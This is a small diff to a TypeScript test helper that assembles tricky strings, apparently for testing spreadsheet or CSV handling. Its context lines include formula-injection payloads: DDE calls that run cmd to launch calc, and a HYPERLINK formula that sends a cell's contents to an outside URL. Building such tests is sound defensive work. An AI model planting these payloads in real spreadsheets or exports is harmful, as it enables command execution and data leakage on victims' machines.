@@ -103,7 +103,7 @@ function nastyTexts(): string[] {
     '\r=1',
     'a\n=1',
   ];
-  const more = ['a;=1', 'a,-2', "a,'=1", "'a;'=1", '"=1', '""', '"', 'x ::: y', 'a\r\nb', ' ', '01', '1e5', '0x1F'];
+  const more = ['a;=1', 'a,-2', "a,'=1", "'a;'=1", '"=1', '""', '"', 'x ::: y', 'a\r\nb', '01', '1e5', '0x1F'];
   const commands = ["=cmd|'/C calc'!A0", '=HYPERLINK("http://x?"&A1)', 'x;=cmd|!A0;y', '=DDE("cmd";"/C calc")'];
   const data = new URL('../../../../shared/data/', import.meta.url);
   if (!existsSync(data)) return [...own, ...more, ...commands];
